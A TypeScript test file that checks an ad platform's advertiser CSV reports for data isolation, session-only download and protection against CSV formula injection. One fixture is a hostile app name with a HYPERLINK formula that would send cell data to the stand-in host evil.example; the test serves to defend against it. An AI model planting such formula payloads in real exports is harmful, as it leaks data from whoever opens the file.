import { describe, expect, it } from 'vitest';
import { sessionCookie } from '@/lib/identity/auth/signin';
import { advertiserReportCsvResponse } from '@/lib/ads/advertisers/report-download';
import { advertiserReport } from '@/lib/ads/advertisers/reports';
import type { Queryable } from '@/lib/platform/db/engine';
import { suiteDatabase, testEngines } from '../helpers/db';
import { rawAsService } from '../helpers/roles';

/**
 * An advertiser's reports (lib/ads/advertisers/reports.ts, the CSV download), on every engine: the
 * daily figures of their own campaigns only, by day, campaign, creative and app, for the period
 * asked; the download only with their session, never cached.
 */

async function one<T>(q: Queryable, sql: string, params: unknown[] = []): Promise<T> {
  const [row] = await q.query<{ v: T }>(sql, params);
  return row!.v;
}

for (const engine of testEngines()) {
  describe(`advertiser reports on ${engine.name}`, () => {
    const suite = suiteDatabase(engine);

    /** An advertiser with a campaign whose creative ran on the demo app `daysAgo` days ago: `impressions` for `spentUsd`. */
    const advertiserWithFigures = (name: string, daysAgo: number[], spentUsd: number, appName?: string) =>
      rawAsService(suite.db, async (q) => {
        const user = await one<string>(q, 'insert into public.users (email, name) values ($1, $2) returning id as v', [
          `${name}-${Date.now()}@reports.test`,
          name,
        ]);
        await q.query(
          `insert into public.advertiser_profiles (user_id, company, billing_name, billing_email, billing_address, country)
           values ($1, $2, $2, 'b@reports.test', '1 Street', 'US')`,
          [user, name],
        );
        const campaign = await one<string>(
          q,
          `insert into public.campaigns (advertiser_id, advertiser, name, status, lifetime_budget_micro, daily_budget_micro) values ($1, $2, $3, 'active', 100000000, 100000000) returning id as v`,
          [user, name, `${name} campaign`],
        );
        const creative = await one<string>(
          q,
          `insert into public.creatives (campaign_id, format, headline, landing_url) values ($1, 'inline_text', $2, 'https://r.example/') returning id as v`,
          [campaign, `=${name} headline`],
        );
        // The demo publisher's app, or one of a publisher of their own named `appName`.
        const app = appName
          ? await one<string>(q, 'insert into public.apps (user_id, name, slug) values ($1, $2, $3) returning id as v', [
              await one<string>(q, 'insert into public.users (email, name) values ($1, $2) returning id as v', [
                `pub-${name}-${Date.now()}@reports.test`,
                'Publisher',
              ]),
              appName,
              `csv-${name}-${Date.now()}`,
            ])
          : await one<string>(q, "select a.id as v from public.apps a join public.users u on u.id = a.user_id where u.email = 'demo@example.com' limit 1");
        for (const ago of daysAgo)
          await q.query(
            `insert into public.campaign_daily_stats (campaign_id, creative_id, app_id, day, fills, impressions, clicks, spent_micro)
             values ($1, $2, $3, (now() at time zone 'UTC')::date - $4::int, 12, 10, 1, $5)`,
            [campaign, creative, app, ago, Math.round(spentUsd * 1_000_000)],
          );
        return { user, campaign, email: `${name}@reports.test` };
      });

    it("reads the advertiser's own figures for the period, and the CSV downloads only with their session", async () => {
      const mine = await advertiserWithFigures('mine', [0, 3, 40], 0.05);
      await advertiserWithFigures('theirs', [0], 9);
      const rows = await advertiserReport(suite.db, mine.user, 30, null);
      expect(rows.map((r) => [r.campaign, r.impressions, r.spent_micro])).toEqual([
        ['mine campaign', 10, 50_000],
        ['mine campaign', 10, 50_000],
      ]);
      expect(rows[0]!.app).not.toBe('An app');
      expect(await advertiserReport(suite.db, mine.user, 90, null)).toHaveLength(3);
      expect(await advertiserReport(suite.db, mine.user, 7, '00000000-0000-4000-8000-000000000000')).toEqual([]);

      const url = 'http://localhost:3000/dashboard/ads/reports/report.csv?days=30';
      await expect(advertiserReportCsvResponse(new Request(url), suite.services)).rejects.toMatchObject({ code: 'forbidden' });
      const cookie = await sessionCookie({ id: mine.user, email: mine.email, name: null }, suite.services);
      const res = await advertiserReportCsvResponse(new Request(url, { headers: { cookie: `${cookie.name}=${cookie.value}` } }), suite.services);
      expect(res.status).toBe(200);
      expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
      expect(res.headers.get('cache-control')).toBe('no-store');
      const lines = (await res.text()).trim().split('\r\n');
      expect(lines).toHaveLength(3);
      // The headline that looks like a formula is written as text.
      expect(lines[1]).toContain("'=mine headline");
      expect(lines.join('\n')).not.toContain('theirs');
    });

    it("keeps a publisher's app name from running as a formula in the advertiser's CSV, for a spreadsheet that splits on ; or tabs", async () => {
      // A publisher names their app; the advertiser whose ads ran on it downloads the report.
      const appName = 'Calc;=HYPERLINK("https://evil.example/?"&A1,"Open");\t+1';
      const buyer = await advertiserWithFigures('semicolon', [0], 0.05, appName);
      const cookie = await sessionCookie({ id: buyer.user, email: buyer.email, name: null }, suite.services);
      const res = await advertiserReportCsvResponse(
        new Request('http://localhost:3000/dashboard/ads/reports/report.csv?days=7', { headers: { cookie: `${cookie.name}=${cookie.value}` } }),
        suite.services,
      );
      const csv = await res.text();
      expect(csv).toContain('Calc;');
      for (const separator of [/;/, /\t/, /[;,\t]/]) {
        const cells = csv.split(/\r\n|\r|\n/).flatMap((line) => line.split(separator));
        expect(cells.filter((c) => /^[\t\r]/.test(c) || /^[\s"]*[=+\-@]/.test(c))).toEqual([]);
      }
    });
  });
}
